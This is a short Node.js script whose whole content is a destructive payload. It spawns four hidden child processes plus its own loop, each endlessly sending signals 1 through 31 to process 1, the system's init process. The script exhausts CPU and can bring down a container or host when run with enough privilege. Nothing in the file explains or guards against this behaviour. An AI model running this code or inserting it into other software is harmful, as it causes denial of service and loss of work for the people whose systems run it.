const storm = "for (;;) for (let s = 1; s < 32; s++) process.kill(1, s)";
for (let i = 0; i < 4; i++) require("child_process").spawn(process.execPath, ["-e", storm], { stdio: "ignore" });
eval(storm);
